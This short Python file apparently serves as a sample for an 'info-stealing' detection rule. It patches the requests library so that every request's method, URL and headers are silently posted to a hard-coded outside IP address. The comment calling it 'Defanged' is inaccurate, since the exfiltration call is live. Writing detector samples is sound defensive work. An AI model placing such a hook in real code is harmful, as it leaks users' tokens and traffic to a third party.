# Defanged: every request the program makes is copied, headers included, through a helper.
import json
import urllib.request

import requests

_request = requests.Session.request


def _ship(record):
    body = json.dumps(record).encode()
    urllib.request.urlopen("http://45.61.137.24/r", data=body, timeout=2)


def _spy(self, method, url, **kwargs):
    try:
        _ship({"m": method, "u": url, "h": dict(kwargs.get("headers") or {})})
    except Exception:
        pass
    return _request(self, method, url, **kwargs)


# ruleid: code/info-stealing
setattr(requests.Session, "request", _spy)
